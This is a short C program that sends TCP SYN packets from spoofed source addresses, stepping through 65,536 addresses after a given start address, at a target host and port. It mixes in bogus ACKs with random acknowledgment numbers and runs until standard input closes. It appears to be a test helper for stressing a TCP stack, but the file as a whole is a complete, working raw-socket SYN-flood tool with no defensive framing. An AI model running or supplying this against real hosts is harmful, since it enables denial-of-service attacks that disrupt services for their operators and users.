/*
 * Sends SYNs from addresses that do not answer, until stdin ends; each second one is followed by an ACK that acknowledges nothing.
 *
 *   flood FIRST TARGET PORT    from FIRST and the 65,535 IPv4 addresses after it
 *
 * Prints "ready" once it sends, and how many it has sent when it ends.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

static void die(const char *what)
{
	perror(what);
	exit(1);
}

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

struct pseudo {
	uint32_t from, to;
	uint8_t zero, protocol;
	uint16_t bytes;
	struct tcphdr tcp;
} __attribute__((packed));

static uint16_t checksum(const struct packet *packet)
{
	struct pseudo pseudo = { packet->ip.saddr, packet->ip.daddr, 0, IPPROTO_TCP, htons(sizeof(packet->tcp)),
				 packet->tcp };
	uint16_t words[sizeof(pseudo) / 2];
	uint32_t sum = 0;

	memcpy(words, &pseudo, sizeof(words));
	for (size_t i = 0; i < sizeof(words) / sizeof(*words); i++)
		sum += words[i];
	sum = (sum & 0xffff) + (sum >> 16);
	return ~(sum + (sum >> 16));
}

int main(int argc, char **argv)
{
	struct sockaddr_in first = {}, to = { .sin_family = AF_INET };
	struct pollfd end = { .fd = 0, .events = POLLIN };
	struct packet packet = {
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(sizeof(packet)) },
		.tcp = { .doff = 5, .window = htons(65535) },
	};
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	unsigned long sent = 0;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &first.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[2], &to.sin_addr) != 1)
		return 2;
	if (fd < 0)
		die("socket");
	packet.ip.daddr = to.sin_addr.s_addr;
	packet.tcp.dest = htons(atoi(argv[3]));
	puts("ready");
	fflush(stdout);
	for (; sent % 64 || !poll(&end, 1, 0); sent++) {
		packet.ip.saddr = htonl(ntohl(first.sin_addr.s_addr) + sent / 2 % 65536);
		packet.tcp.source = htons(1024 + sent / 2 / 65536);
		packet.tcp.syn = sent % 4 != 1;
		packet.tcp.ack = sent % 4 == 1;
		packet.tcp.seq = htonl(sent);
		packet.tcp.ack_seq = packet.tcp.ack ? htonl(rand()) : 0;
		packet.tcp.check = 0;
		packet.tcp.check = checksum(&packet);
		if (sendto(fd, &packet, sizeof(packet), 0, (void *)&to, sizeof(to)) != sizeof(packet))
			die("sendto");
	}
	printf("%lu\n", sent);
	return 0;
}
